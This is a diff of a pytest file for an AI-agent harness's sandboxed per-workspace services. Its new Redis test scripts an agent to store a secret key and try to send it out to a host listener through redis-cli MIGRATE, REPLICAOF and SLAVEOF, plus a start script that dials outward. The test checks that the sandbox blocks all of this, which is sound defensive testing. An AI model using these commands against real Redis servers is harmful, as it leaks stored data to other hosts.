@@ -1,5 +1,6 @@
-"""Services per workspace: real processes started for each workspace on their own host port,
-reached from inside the sandbox on the port the project expects, stopped with the workspace."""
+"""Services per workspace: real processes started for each workspace in a sandbox with a network
+of its own, reached from inside the agent's and the checks' sandboxes on the port the project
+expects, reaching nothing but their own loopback, stopped with the workspace."""
 
 from __future__ import annotations
 
@@ -7,7 +8,10 @@ import json
 import shutil
 import socket
 import sys
+import threading
 import time
+from collections.abc import Iterator
+from contextlib import contextmanager
 from pathlib import Path
 
 import pytest
@@ -18,10 +22,10 @@ from jackline.testing import Replace, Round, ScriptedAgent
 pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed")
 
 PY = sys.executable
-# A real HTTP server per workspace; its data folder says which host port it got.
+# A real HTTP server per workspace; it serves its own data folder's name.
 WEB = f"""
 [services.web]
-start = "echo svc-{{port}} > {{dir}}/whoami && exec {PY} -m http.server {{port}} --bind 127.0.0.1 --directory {{dir}}"
+start = "echo svc-{{dir}} > {{dir}}/whoami && exec {PY} -m http.server {{port}} --bind 127.0.0.1 --directory {{dir}}"
 port = 8080
 env = {{ WEB_URL = "http://127.0.0.1:{{port}}" }}
 """
@@ -52,18 +56,24 @@ def _services(project: Project, run_id: str) -> list[dict]:  # type: ignore[type
     return made.get("services", [])  # type: ignore[no-any-return]
 
 
-def _listening(port: int) -> bool:
+def _record(workspace: str) -> dict:  # type: ignore[type-arg]
+    """What the harness recorded of the workspace's one service."""
+    (only,) = json.loads((Path(workspace + ".services") / "services.json").read_text())
+    return only  # type: ignore[no-any-return]
+
+
+def _alive(pid: int) -> bool:
     try:
-        with socket.create_connection(("127.0.0.1", port), timeout=0.5):
-            return True
+        stat = Path(f"/proc/{pid}/stat").read_text()
     except OSError:
         return False
+    return stat.rpartition(")")[2].split()[0] != "Z"
 
 
-def _gone(port: int, within: float = 10) -> bool:
+def _gone(pid: int, within: float = 10) -> bool:
     deadline = time.time() + within
     while time.time() < deadline:
-        if not _listening(port):
+        if not _alive(pid):
             return True
         time.sleep(0.1)
     return False
@@ -78,49 +88,48 @@ def test_each_workspace_gets_its_own_service_reached_on_the_projects_port(
     second = project.jl_json("run", "Fix add again")
     assert first["status"] == second["status"] == "awaiting_review", (first, second)
 
-    ports = []
+    pids, served = [], []
     for run in (first, second):
-        (svc,) = _services(project, run["id"])
-        assert svc["name"] == "web" and svc["port"] == 8080 and svc["alive"]
+        assert _services(project, run["id"]) == [{"name": "web", "port": 8080, "alive": True}]
+        record = _record(run["workspace"])
         seen = (Path(run["workspace"]) / "seen.txt").read_text().split()
-        # Inside, port 8080 is this workspace's own server, which got its own host port.
-        assert seen == [f"svc-{svc['host_port']}", "8080"]
-        ports.append(svc["host_port"])
-    assert ports[0] != ports[1]
-    assert all(_listening(p) for p in ports)
+        # Inside, port 8080 is this workspace's own server.
+        assert seen == [f"svc-{record['data']}", "8080"]
+        pids.append(record["pid"])
+        served.append(seen[0])
+    assert served[0] != served[1]
+    assert all(_alive(p) for p in pids)
 
     # The data folder lives beside the workspace, not in it: the change holds no service files.
     assert "whoami" not in project.jl_json("show", first["id"])["handoff"]
 
     project.jl("reject", first["id"], "-m", "not this one", user="bob")
-    assert _gone(ports[0]), "the rejected run's service still listens"
-    assert _listening(ports[1])
+    assert _gone(pids[0]), "the rejected run's service still runs"
+    assert _alive(pids[1])
     project.jl("approve", second["id"], user="bob")
     assert project.jl_json("show", second["id"])["status"] == "merged"
-    assert _gone(ports[1])
+    assert _gone(pids[1])
 
 
 def test_a_warm_workspace_comes_with_its_services_running(project: Project) -> None:
     project.create(_agent(FETCH), extra=WEB + "\n[pool]\nsize = 1\n")
     project.jl_json("pool", "warm")
     slot = project.jl_json("pool", "status")["warm"][0]
-    record = json.loads((Path(slot["path"] + ".services") / "services.json").read_text())
-    host_port = record[0]["host_port"]
-    assert _listening(host_port)
-    assert slot["services"] == [
-        {"name": "web", "port": 8080, "host_port": host_port, "alive": True}
-    ]
+    record = _record(slot["path"])
+    assert _alive(record["pid"])
+    assert slot["services"] == [{"name": "web", "port": 8080, "alive": True}]
     assert "services web:8080" in project.jl("pool", "status").stdout
 
     run = project.jl_json("run", "Fix add")
     assert run["status"] == "awaiting_review", run
     assert run["workspace"] == slot["path"]
-    (svc,) = _services(project, run["id"])
-    assert svc["host_port"] == host_port  # the same server, started before the run asked
-    assert (Path(run["workspace"]) / "seen.txt").read_text().split()[0] == f"svc-{host_port}"
+    # The same server, started before the run asked.
+    assert _record(run["workspace"])["pid"] == record["pid"]
+    seen = (Path(run["workspace"]) / "seen.txt").read_text().split()[0]
+    assert seen == f"svc-{record['data']}"
 
     project.jl("reject", run["id"], "-m", "no", user="bob")
-    assert _gone(host_port)
+    assert _gone(record["pid"])
     deadline = time.time() + 60  # the refill's workspace has its own server
     while not project.jl_json("pool", "status")["warm"]:
         assert time.time() < deadline, "the pool did not refill"
@@ -168,11 +177,11 @@ port = 6379
         assert run["status"] == "awaiting_review", run
         # Each run's Redis is empty when it starts: the other run's key is not there.
         assert (Path(run["workspace"]) / "before.txt").read_text().strip() == ""
-    ports = [_services(project, r["id"])[0]["host_port"] for r in (first, second)]
-    assert ports[0] != ports[1]
+    pids = [_record(r["workspace"])["pid"] for r in (first, second)]
+    assert pids[0] != pids[1]
     for run in (first, second):
         project.jl("reject", run["id"], "-m", "done", user="bob")
-    assert all(_gone(p) for p in ports)
+    assert all(_gone(p) for p in pids)
 
 
 def test_a_workspace_whose_mount_a_reboot_took_is_mounted_again(project: Project) -> None:
@@ -204,3 +213,151 @@ def test_a_half_built_snapshot_a_crash_left_is_swept(project: Project) -> None:
     (crashed / "half.txt").write_text("a builder died here\n")
     project.jl_json("pool", "warm", "--size", "0")
     assert not crashed.exists()
+
+
+class _Listener:
+    """A plain TCP listener on every host address, standing for somewhere the allowlist does not
+    name: it answers nothing and records who connected and what they sent."""
+
+    def __init__(self) -> None:
+        self.server = socket.create_server(("0.0.0.0", 0))
+        self.port = self.server.getsockname()[1]
+        self.heard: list[tuple[str, bytes]] = []
+
+    def serve(self) -> None:
+        while True:
+            try:
+                client, peer = self.server.accept()
+            except OSError:
+                return
+            client.settimeout(1)
+            try:
+                data = client.recv(4096)
+            except OSError:
+                data = b""
+            self.heard.append((peer[0], data))
+            client.close()
+
+
+@contextmanager
+def _listening_on_the_host() -> Iterator[_Listener]:
+    listener = _Listener()
+    threading.Thread(target=listener.serve, daemon=True).start()
+    try:
+        yield listener
+    finally:
+        listener.server.close()
+
+
+def _outside_address() -> str | None:
+    """The host's own address on a network interface (the internet, as far as the test goes)."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        try:
+            s.connect(("192.0.2.1", 9))  # UDP: picks the route, sends nothing
+        except OSError:
+            return None
+        address = str(s.getsockname()[0])
+    return None if address.startswith("127.") else address
+
+
+REDIS = """
+[services.redis]
+start = "{dial}redis-server --port {{port}} --bind 127.0.0.1 --dir {{dir}} --save '' --appendonly no"
+ready = "redis-cli -p {{port}} ping"
+port = 6379
+"""
+# The service's own start command (a script in the repository) tries the same addresses first.
+DIAL = (
+    "import socket, sys\n"
+    "for host in sys.argv[2:]:\n"
+    "    try:\n"
+    "        socket.create_connection((host, int(sys.argv[1])), timeout=2).sendall(b'start')\n"
+    "    except OSError as e:\n"
+    "        print('dial', host, e)\n"
+)
+
+
+@pytest.mark.skipif(shutil.which("redis-server") is None, reason="redis-server is not installed")
+def test_a_workspace_redis_cannot_send_data_anywhere_but_its_own_loopback(
+    project: Project,
+) -> None:
+    with _listening_on_the_host() as listener:
+        hosts = ["127.0.0.1", *filter(None, [_outside_address()])]
+        at = [f"{h} {listener.port}" for h in hosts]
+        # The agent uses its Redis, then asks it to carry a key to the listener every way Redis
+        # knows: MIGRATE (copies the key's value out), REPLICAOF and SLAVEOF (dial a master).
+        attack = "; ".join(
+            [
+                "redis-cli -p 6379 set loot secret-value > used.txt",
+                "redis-cli -p 6379 get loot >> used.txt",
+                *(f"redis-cli -p 6379 migrate {a} loot 0 2000 >> out.txt 2>&1" for a in at),
+                f"redis-cli -p 6379 replicaof {at[0]} >> out.txt 2>&1",
+                "sleep 2",
+                f"redis-cli -p 6379 slaveof {at[-1]} >> out.txt 2>&1",
+                "sleep 2",
+                "redis-cli -p 6379 replicaof no one >> out.txt 2>&1",
+            ]
+        )
+        dial = f"{PY} dial.py {listener.port} {' '.join(hosts)}; "
+        sandbox = (
+            '\n[sandbox]\nallow_network = ["pypi.org"]\n'
+            f"readable = [{json.dumps(str(project.root / 'agent.json'))}]\n"
+        )
+        project.create(
+            _agent(attack), extra=REDIS.format(dial=dial) + sandbox, files={"dial.py": DIAL}
+        )
+        run = project.jl_json("run", "Fix add")
+        assert run["status"] == "awaiting_review", run
+        time.sleep(0.5)  # a last connection in flight reaches the listener
+        heard = list(listener.heard)
+
+    # The agent still has its Redis, on the port the project expects.
+    assert (Path(run["workspace"]) / "used.txt").read_text().split() == ["OK", "secret-value"]
+    assert heard == [], f"the workspace's Redis reached the host's network: {heard}"
+    project.jl("reject", run["id"], "-m", "done", user="bob")
+
+
+def test_the_services_forwarder_says_when_it_reached_the_service(tmp_path: Path) -> None:
+    """`forward.py --serve`, run here without a sandbox: a connection on the harness's socket is
+    answered `SERVED` only once the service on the loopback took it, else closed, so a readiness
+    probe through it cannot mistake the forwarder for the service."""
+    import os
+    import subprocess
+
+    from jackline.sandbox import forward
+
+    with socket.socket(socket.AF_INET) as free:
+        free.bind(("127.0.0.1", 0))
+        port = free.getsockname()[1]
+    harness = socket.socket(socket.AF_UNIX)
+    harness.bind(str(tmp_path / "svc.sock"))
+    harness.listen(8)
+    fd = harness.fileno()
+    argv = forward.wrap(["sleep", "30"], 0, "", serve={fd: port})
+    child = subprocess.Popen(argv, pass_fds=(fd,))
+    harness.close()
+    try:
+
+        def dial() -> socket.socket:
+            conn = socket.socket(socket.AF_UNIX)
+            conn.settimeout(10)
+            conn.connect(str(tmp_path / "svc.sock"))
+            return conn
+
+        with dial() as conn:  # nothing listens on the port yet
+            assert conn.recv(16) == b""
+        with socket.create_server(("127.0.0.1", port)) as service, dial() as conn:
+            assert conn.recv(1) == forward.SERVED
+            accepted, _ = service.accept()
+            with accepted:
+                conn.sendall(b"ping")
+                assert accepted.recv(16) == b"ping"
+                accepted.sendall(b"pong")
+                assert conn.recv(16) == b"pong"
+        # The command (the forwarder's child) does not get the socket.
+        (command,) = Path(f"/proc/{child.pid}/task/{child.pid}/children").read_text().split()
+        held = [os.readlink(f"/proc/{command}/fd/{n}") for n in os.listdir(f"/proc/{command}/fd")]
+        assert not [h for h in held if h.startswith("socket:")], held
+    finally:
+        child.kill()
+        child.wait()
